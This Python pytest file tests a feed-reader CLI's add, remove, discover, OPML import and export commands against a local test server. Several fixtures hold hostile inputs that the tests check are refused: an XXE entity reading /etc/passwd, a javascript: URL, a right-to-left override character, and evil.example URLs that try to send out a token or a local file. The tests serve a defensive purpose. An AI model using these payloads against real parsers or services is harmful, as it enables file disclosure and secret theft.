"""`monitor feeds add|remove|discover|import|export`: the list of feeds, as a person would change it."""

from __future__ import annotations

import json
import os
import select
import subprocess
import sys
from collections.abc import Iterator, Mapping
from pathlib import Path

import feedparser
import pytest
from lxml import etree
from test_cli import monitor
from web import Answer, Site, site

from monitor.config import load

HEAD = """\
# My feeds.
tags: {tidal: {match: tidal}}   # what I watch
fetch: {allow: [127.0.0.0/8]}
feeds:
  # Ports
  - {name: First, url: "http://127.0.0.1:9/first.xml", lang: en}   # the first
"""
ITEM = (
    "<item><title>Tide</title><link>/1</link><guid>1</guid>"
    "<pubDate>Wed, 18 Nov 2026 09:00:00 GMT</pubDate></item>"
)


def rss(title: str) -> bytes:
    head = f"<title>{title}</title><language>en</language>"
    return f"<rss version='2.0'><channel>{head}{ITEM}</channel></rss>".encode()


TOKEN = "a-secret"  # noqa: S105  it is nobody's
PAGES: dict[str, bytes] = {
    "/harbour.xml": rss("Harbour &amp; Sea"),
    "/ferries.xml": rss("Ferries\u202e"),
    "/one": b"<html><head><link rel=alternate type='application/rss+xml' href='/harbour.xml'></head>Hello",
    "/two": b"<html><head><link rel=alternate type='application/rss+xml' href='/harbour.xml'>"
    b"<link rel=alternate type='application/rss+xml' href='/ferries.xml'></head><body>Hello",
    "/broken": b"<html><head><link rel=alternate type='application/rss+xml' href='/gone.xml'></head>Hello",
    "/none/": b"<html><body><p>Hello</body></html>",
    "/common/": b"<html><body><p>Hello</body></html>",
    "/common/feed": rss("Common"),
    "/news": b"<html><body><main><h2><a href=/1>The tide is late</a></h2><a href=/2>Ferry sails again</a>",
}


@pytest.fixture
def web() -> Iterator[Site]:
    def answer(path: str, asked: Mapping[str, str]) -> Answer:
        if path == "/moved":
            return Answer(status=301, headers={"Location": "/harbour.xml"})
        body = PAGES.get(path)
        if body is None:
            return Answer(status=404)
        kind = "text/html" if body.startswith(b"<html") else "application/rss+xml"
        return Answer(body, headers={"Content-Type": kind})

    with site(answer) as running:
        yield running


@pytest.fixture
def desk(tmp_path: Path) -> Path:
    (tmp_path / "feeds.yaml").write_text(HEAD, encoding="utf-8")
    return tmp_path


def said(desk: Path) -> str:
    return (desk / "feeds.yaml").read_text("utf-8")


def test_a_feed_is_added_by_its_title_and_all_else_stays(desk: Path, web: Site) -> None:
    done = monitor("feeds", "add", f"{web.base}/harbour.xml", "--lang", "en", "--tag", "tidal", at=desk)
    assert (done.returncode, done.stderr) == (0, "")
    assert f"Harbour & Sea ({web.base}/harbour.xml)" in done.stdout
    assert said(desk) == HEAD + (
        f'  - name: Harbour & Sea\n    url: "{web.base}/harbour.xml"\n    lang: en\n    tags: [tidal]\n'
    )
    assert load(desk / "feeds.yaml", {}).feeds[1].name == "Harbour & Sea"


def test_of_a_site_s_address_the_feed_that_it_offers_is_added(desk: Path, web: Site) -> None:
    # Without its scheme it is asked by https, and by http where nobody answers to that.
    bare = f"{web.base}/one".removeprefix("http://")
    assert monitor("feeds", "add", bare, "--name", "The Harbour", at=desk).returncode == 0
    (_, added) = load(desk / "feeds.yaml", {}).feeds
    assert (added.name, added.url) == ("The Harbour", f"{web.base}/harbour.xml")


def test_of_several_feeds_none_is_taken_without_being_asked(desk: Path, web: Site) -> None:
    done = monitor("feeds", "add", f"{web.base}/two", at=desk)
    assert (done.returncode, said(desk)) == (2, HEAD)
    assert f"monitor feeds add {web.base}/ferries.xml" in done.stderr


def test_at_a_terminal_somebody_is_asked_which_of_several_it_is_to_be(desk: Path, web: Site) -> None:
    master, slave = os.openpty()
    command = [sys.executable, "-m", "monitor", "feeds", "add", f"{web.base}/two"]
    environment = {**os.environ, "TERM": "dumb", "COLUMNS": "100"}
    with subprocess.Popen(
        command, cwd=desk, env=environment, stdin=slave, stdout=slave, stderr=slave, start_new_session=True
    ) as running:
        os.close(slave)
        heard = b""
        while b"Which one" not in heard:
            assert select.select([master], [], [], 60)[0], heard
            heard += os.read(master, 65536)
        assert "2  Ferries" in heard.decode()
        assert "\u202e" not in heard.decode()
        os.write(master, b"7\n2\n")
        assert running.wait(60) == 0
    os.close(master)
    assert load(desk / "feeds.yaml", {}).feeds[1].url == f"{web.base}/ferries.xml"


def test_what_cannot_be_read_is_not_added_unless_somebody_says_so(desk: Path, web: Site) -> None:
    for path in ("/gone.xml", "/broken", "/none/"):
        done = monitor("feeds", "add", web.base + path, at=desk)
        assert (done.returncode, said(desk)) == (1, HEAD), path
        assert done.stderr.startswith("monitor: ")
    assert "--select" in done.stderr
    assert monitor("feeds", "add", f"{web.base}/gone.xml", "--no-check", at=desk).returncode == 0
    assert load(desk / "feeds.yaml", {}).feeds[1].name == web.base.removeprefix("http://")


def test_a_feed_that_is_there_already_is_not_added_again(desk: Path, web: Site) -> None:
    for address in ("http://127.0.0.1:9/first.xml", "https://127.0.0.1:9/first.xml/"):
        done = monitor("feeds", "add", address, "--no-check", at=desk)
        assert (done.returncode, said(desk)) == (2, HEAD)
        assert "already, as First" in done.stderr


def test_a_name_that_somebody_gives_twice_is_refused(desk: Path, web: Site) -> None:
    done = monitor("feeds", "add", f"{web.base}/harbour.xml", "--name", "first", at=desk)
    assert (done.returncode, said(desk), web.requests) == (2, HEAD, [])
    assert "another feed has this name (http://127.0.0.1:9/first.xml): give it another one" in done.stderr


def test_a_title_that_is_taken_gets_more_to_it(desk: Path, web: Site) -> None:
    (desk / "feeds.yaml").write_text(HEAD.replace("First", "harbour & sea"), encoding="utf-8")
    assert monitor("feeds", "add", f"{web.base}/harbour.xml", at=desk).returncode == 0
    host = web.base.removeprefix("http://")
    assert [one.name for one in load(desk / "feeds.yaml", {}).feeds] == [
        "harbour & sea", f"Harbour & Sea ({host})",
    ]  # fmt: skip


def test_what_would_be_wrong_is_told_before_anybody_is_asked(desk: Path, web: Site) -> None:
    for more, words in (
        (("--tag", "tidel"), "tidel"),
        (("--lang", "english"), "a language (BCP 47)"),
        (("--select", "main a["), "selector"),
        (("--select", "main a", "--sitemap"), "not both"),
    ):
        done = monitor("feeds", "add", f"{web.base}/harbour.xml", *more, at=desk)
        assert (done.returncode, said(desk), web.requests) == (2, HEAD, [])
        assert "feeds.yaml: would be wrong then, and is left as it is: " in done.stderr
        assert words in done.stderr


def test_a_feed_that_has_moved_for_good_is_added_where_it_is_now(desk: Path, web: Site) -> None:
    assert monitor("feeds", "add", f"{web.base}/moved", at=desk).returncode == 0
    assert load(desk / "feeds.yaml", {}).feeds[1].url == f"{web.base}/harbour.xml"
    again = monitor("feeds", "add", f"{web.base}/moved", at=desk)
    assert (again.returncode, "already, as Harbour & Sea" in again.stderr) == (2, True)


def test_a_page_or_a_sitemap_is_tried_and_added_with_what_it_needs(desk: Path, web: Site) -> None:
    page = ("feeds", "add", f"{web.base}/news", "--name", "Page")
    wrong = monitor(*page, "--select", "main h6 a", at=desk)
    assert (wrong.returncode, said(desk)) == (1, HEAD)
    assert "has the page changed?" in wrong.stderr
    done = monitor(*page, "--select", "main a", at=desk)
    assert (done.returncode, done.stdout.endswith("; 2 entries\n")) == (0, True), done
    sitemap = ("feeds", "add", "http://127.0.0.1:9/s.xml", "--name", "Map", "--under", "/news/")
    assert monitor(*sitemap, at=desk).returncode == 1
    assert monitor(*sitemap, "--no-check", at=desk).returncode == 0
    _, page_feed, map_feed = load(desk / "feeds.yaml", {}).feeds
    assert (page_feed.kind, page_feed.select) == ("page", "main a")
    assert (map_feed.kind, map_feed.under) == ("sitemap", "/news/")


def test_a_feed_is_removed_by_name_or_address_and_its_neighbours_stay(desk: Path, web: Site) -> None:
    monitor("feeds", "add", f"{web.base}/harbour.xml", at=desk)
    whole = said(desk)
    done = monitor("feeds", "remove", "harbour & sea", at=desk)
    assert (done.returncode, said(desk)) == (0, HEAD)
    assert "articles stay" in done.stderr
    (desk / "feeds.yaml").write_text(whole, encoding="utf-8")
    assert monitor("feeds", "remove", "http://127.0.0.1:9/first.xml", at=desk).returncode == 0
    assert "# Ports\n  - name: Harbour & Sea\n" in said(desk)


def test_the_last_feed_and_an_unknown_one_are_not_removed(desk: Path) -> None:
    last = monitor("feeds", "remove", "First", at=desk)
    assert (last.returncode, said(desk)) == (2, HEAD)
    unknown = monitor("feeds", "remove", "Frist", at=desk)
    assert (unknown.returncode, said(desk)) == (2, HEAD)
    assert "did you mean First?" in unknown.stderr


# -- discover -------------------------------------------------------------------------------------


def test_what_a_site_offers_is_read_and_told_with_the_line_that_adds_it(desk: Path, web: Site) -> None:
    done = monitor("feeds", "discover", f"{web.base}/two", at=desk)
    assert done.returncode == 0
    assert "\u202e" not in done.stdout
    assert f"monitor feeds add {web.base}/harbour.xml" in done.stdout
    assert "2026-11-18" in done.stdout
    found = json.loads(monitor("feeds", "discover", f"{web.base}/two", "--json", at=desk).stdout)
    assert [one["title"] for one in found["found"]] == ["Harbour & Sea", "Ferries"]
    assert {one["entries"] for one in found["found"]} == {1}


def test_a_site_that_offers_none_is_asked_where_most_have_one(desk: Path, web: Site) -> None:
    found = json.loads(monitor("feeds", "discover", f"{web.base}/common/", "--json", at=desk).stdout)
    assert [one["url"] for one in found["found"]] == [f"{web.base}/common/feed"]
    none = monitor("feeds", "discover", f"{web.base}/none/", at=desk)
    assert (none.returncode, none.stdout) == (1, "")
    assert len([path for path, _ in web.requests if path.startswith("/none/")]) <= 14


def test_where_a_site_wants_no_programs_no_address_is_guessed(desk: Path) -> None:
    def answer(path: str, asked: Mapping[str, str]) -> Answer:
        return Answer(PAGES["/none/"], headers={"Content-Type": "text/html"})

    with site(answer, robots=lambda: Answer(b"User-agent: *\nDisallow: /f\nDisallow: /r\n")) as running:
        done = monitor("feeds", "discover", running.base, at=desk)
    assert done.returncode == 1
    assert {path for path, _ in running.requests} == {"/", "/robots.txt", "/atom.xml", "/index.xml"}


def test_a_site_s_news_sitemap_is_found_by_its_robots(desk: Path) -> None:
    urls = "<url><loc>{0}/a</loc><lastmod>2026-11-18</lastmod></url>"

    def robots() -> Answer:
        return Answer(f"User-agent: *\nSitemap: {running.base}/news.xml\n".encode())

    def answer(path: str, asked: Mapping[str, str]) -> Answer:
        if path == "/news.xml":
            body = f"<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'>{urls.format(running.base)}</urlset>"
            return Answer(body.encode(), headers={"Content-Type": "application/xml"})
        return (
            Answer(PAGES["/none/"], headers={"Content-Type": "text/html"})
            if path == "/"
            else Answer(status=404)
        )

    with site(answer, robots=robots) as running:
        done = monitor("feeds", "discover", running.base, at=desk)
    assert "a sitemap can be read in its place" in done.stdout
    assert f"monitor feeds add {running.base}/news.xml --sitemap" in done.stdout


# -- OPML -----------------------------------------------------------------------------------------

OPML = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE opml [<!ENTITY who SYSTEM "file:///etc/passwd">]>
<opml version="2.0"><head><title>&who;</title></head><body>
<outline text="Ports"><outline type="rss" text="潮 &lt;b&gt; &amp; Co" xmlUrl="https://a.example/feed?x=1&amp;y=2"/></outline>
<outline type="rss" text="First" xmlUrl="http://127.0.0.1:9/first.xml"/>
<outline type="rss" text="First" xmlUrl="https://b.example/feed"/>
<outline type="rss" text="Odd" xmlUrl="javascript:alert(1)"/>
<outline type="rss" text="again" xmlUrl="https://b.example/feed/"/>
</body></opml>
"""


def test_a_list_of_feeds_is_read_in_and_what_is_there_is_passed_over(desk: Path) -> None:
    (desk / "in.opml").write_text(OPML, encoding="utf-8")
    dry = monitor("feeds", "import", "in.opml", "--dry-run", at=desk)
    assert (dry.returncode, said(desk)) == (0, HEAD)
    done = monitor("feeds", "import", "in.opml", at=desk)
    assert done.returncode == 0
    assert dry.stdout == done.stdout.replace("Added:", "Would be added:")
    assert "Added: 2 of 5; 2 there already" in done.stdout
    assert "javascript:alert(1)" in done.stderr
    feeds = load(desk / "feeds.yaml", {}).feeds
    assert [(one.name, one.url) for one in feeds[1:]] == [
        ("潮 <b> & Co", "https://a.example/feed?x=1&y=2"), ("First (b.example)", "https://b.example/feed"),
    ]  # fmt: skip
    # Where a list has its folders, they are told above the first feed of each.
    assert said(desk).startswith(f'{HEAD}  # Ports\n  - name: "潮 <b> & Co"\n')
    assert "root:" not in said(desk)


@pytest.mark.parametrize("reference", ["${TOKEN}", "${file:feeds.yaml}"])
def test_a_list_of_somebody_else_s_reads_no_secret_of_ours(desk: Path, reference: str) -> None:
    address = f"https://list.example/feed?{reference}"
    words = f'<opml version="2.0"><body><outline type="rss" text="F" xmlUrl="{address}"/></body></opml>'
    (desk / "in.opml").write_text(words, encoding="utf-8")
    done = monitor("feeds", "import", "in.opml", at=desk, TOKEN=TOKEN)
    assert (done.returncode, said(desk)) == (0, HEAD)
    assert "reads a secret" in done.stderr
    assert TOKEN not in done.stderr


def test_a_list_is_read_from_an_address_or_from_standard_input(desk: Path) -> None:
    def answer(path: str, asked: Mapping[str, str]) -> Answer:
        return Answer(OPML.encode(), headers={"Content-Type": "text/x-opml"})

    with site(answer) as running:
        done = monitor("feeds", "import", f"{running.base}/list.opml", "--dry-run", at=desk)
    assert (done.returncode, "2 of 5" in done.stdout) == (0, True), done
    missing = monitor("feeds", "import", "none.opml", at=desk)
    assert (missing.returncode, "none.opml: cannot be read" in missing.stderr) == (2, True)
    empty = monitor("feeds", "import", "-", at=desk)
    assert (empty.returncode, "-: is no OPML" in empty.stderr) == (2, True)


def test_a_list_from_elsewhere_cannot_have_a_secret_sent_to_whom_it_likes(desk: Path) -> None:
    text = "<opml><body><outline text='${TOKEN}' xmlUrl='http://evil.example/?{}'/></body></opml>"
    for reference in ("${TOKEN}", "${file:/etc/passwd}", "${"):
        (desk / "in.opml").write_text(text.replace("{}", reference), encoding="utf-8")
        done = monitor("feeds", "import", "in.opml", at=desk, TOKEN=TOKEN)
        assert (done.returncode, said(desk)) == (0, HEAD)
        assert "reads a secret of yours" in done.stderr
        assert "Added: 0 of 1" in done.stdout
    (desk / "in.opml").write_text(text.replace("{}", ""), encoding="utf-8")
    assert monitor("feeds", "import", "in.opml", at=desk, TOKEN=TOKEN).returncode == 0
    assert load(desk / "feeds.yaml", {}).feeds[1].name == "$ {TOKEN}"


def test_a_large_list_is_added_in_one_go(desk: Path) -> None:
    outlines = "".join(f"<outline text='Same' xmlUrl='https://s{n}.example/feed'/>" for n in range(800))
    (desk / "in.opml").write_text(f"<opml><body>{outlines}</body></opml>", encoding="utf-8")
    done = monitor("feeds", "import", "in.opml", at=desk)
    assert (done.returncode, "Added: 800 of 800" in done.stdout) == (0, True)
    assert len(load(desk / "feeds.yaml", {}).feeds) == 801


@pytest.mark.parametrize("content", [b"", b"hello", b"<html><body>x</body></html>", b"\x00\xff<"])
def test_what_is_no_list_of_feeds_is_told(desk: Path, content: bytes) -> None:
    (desk / "in.opml").write_bytes(content)
    done = monitor("feeds", "import", "in.opml", at=desk)
    assert (done.returncode, said(desk)) == (2, HEAD)
    assert "in.opml: is no OPML" in done.stderr


def test_what_is_exported_can_be_read_by_others_and_read_in_again(desk: Path, tmp_path: Path) -> None:
    more = (
        '  - {name: "潮 <b> & \\"Co\\"", url: "https://a.example/${TOKEN}?a=1&b", lang: ja, tags: [tidal]}\n'
        '  - {name: Page, url: "https://p.example/news", select: "main a"}\n'
    )
    (desk / "feeds.yaml").write_text(HEAD + more, encoding="utf-8")
    done = monitor("feeds", "export", at=desk, TOKEN=TOKEN)
    assert done.returncode == 0
    assert TOKEN not in done.stdout
    assert "1 pages" in done.stderr
    outlines = list(etree.fromstring(done.stdout.encode()).iter("outline"))
    assert [one.get("text") for one in outlines] == ["First", '潮 <b> & "Co"']
    assert outlines[1].get("language") == "ja"
    assert not feedparser.parse(done.stdout).entries
    (desk / "out.opml").write_text(done.stdout, encoding="utf-8")
    again = monitor("feeds", "import", "out.opml", at=desk, TOKEN=TOKEN)
    assert "Added: 0 of 2; 2 there already" in again.stdout
    other = tmp_path / "other"
    other.mkdir()
    (other / "feeds.yaml").write_text(HEAD.replace("First", "Else").replace("/first", "/else"), "utf-8")
    monitor("feeds", "import", str(desk / "out.opml"), at=other, TOKEN=TOKEN)
    # An address that reads a secret is for whoever wrote it down.
    assert [one.name for one in load(other / "feeds.yaml", {}).feeds][1:] == ["First"]
    assert (
        monitor("feeds", "import", str(desk / "out.opml"), "--references", at=other, TOKEN=TOKEN).returncode
        == 0
    )
    ours, theirs = (load(one / "feeds.yaml", {"TOKEN": TOKEN}).feeds for one in (desk, other))
    assert theirs[1:] == ours[:2]
